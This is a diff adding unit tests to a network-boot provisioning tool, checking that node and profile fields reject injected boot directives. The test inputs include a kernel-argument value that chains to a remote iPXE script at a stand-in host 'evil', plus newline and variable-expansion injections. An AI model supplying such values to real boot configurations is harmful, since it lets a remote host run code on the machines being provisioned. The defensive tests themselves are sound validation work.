@@ -50,6 +50,9 @@ describe('nodes', () => {
     expect(() => i.profiles.add({ name: 'p', labels: [{ name: 'l', kernel: 'vmlinuz\nKERNEL x' }] })).toThrow(/labels\[0\]\.kernel/);
     expect(() => i.profiles.add({ name: 'p', labels: [{ name: 'l', kernel: 'vmlinuz', args: 'a\rb' }] })).toThrow(/labels\[0\]\.args/);
     expect(() => i.profiles.add({ name: 'p', labels: [{ name: 'l', localboot: 0, menuLabel: 'x\nMENU HIDDEN' }] })).toThrow(/menu_label/);
+    // iPXE script syntax on the kernel line would run another command on the node.
+    expect(() => i.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a', extraArgs: 'quiet && chain http://evil/x.ipxe' })).toThrow(/"&&" \(iPXE script syntax/);
+    expect(() => i.profiles.add({ name: 'p', labels: [{ name: 'l', kernel: 'vmlinuz', args: 'x=${net0/mac}' }] })).toThrow(/labels\[0\]\.args: must not contain "\$\{"/);
   });
 
   it('says which cluster or profile is missing', () => {
